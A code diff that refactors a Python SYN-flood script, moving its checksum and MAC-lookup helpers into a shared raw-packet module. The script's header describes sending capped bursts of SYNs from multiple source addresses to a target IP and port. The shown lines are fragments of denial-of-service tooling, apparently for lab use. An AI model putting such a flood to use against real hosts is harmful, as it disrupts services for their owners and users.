@@ -11,21 +11,14 @@
 # DST_MAC auto: ping DST_IP once and read the neighbour table. Stops by itself after COUNT
 # SYNs (default 1000) or MAX_SECONDS (default 20). Prints "synflood: sent N SYNs from K
 # addresses to IP:PORT in S s".
-import ipaddress, random, socket, struct, subprocess, sys, time
+import ipaddress, os, random, socket, struct, subprocess, sys, time
 
-def csum(b):
-    if len(b) % 2: b += b"\0"
-    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
-    while t >> 16: t = (t & 0xFFFF) + (t >> 16)
-    return (~t) & 0xFFFF
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from rawpkt import csum, resolve_mac as _resolve  # noqa: E402
+
 
 def resolve_mac(ip):
-    subprocess.run(["ping", "-n", "-c", "1", "-W", "2", ip], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    with open("/proc/net/arp") as f:
-        for line in f.readlines()[1:]:
-            p = line.split()
-            if p[0] == ip and p[3] != "00:00:00:00:00:00": return p[3]
-    sys.exit("synflood: no MAC for %s (pass it instead of auto)" % ip)
+    return _resolve(ip, "synflood")
 
 def tcp_syn(src, dst, sport, dport, seq, rng):
     opts = struct.pack("!BBH", 2, 4, 1460) + struct.pack("!BBBB", 1, 3, 3, rng.randint(0, 8))   # MSS, NOP, WS
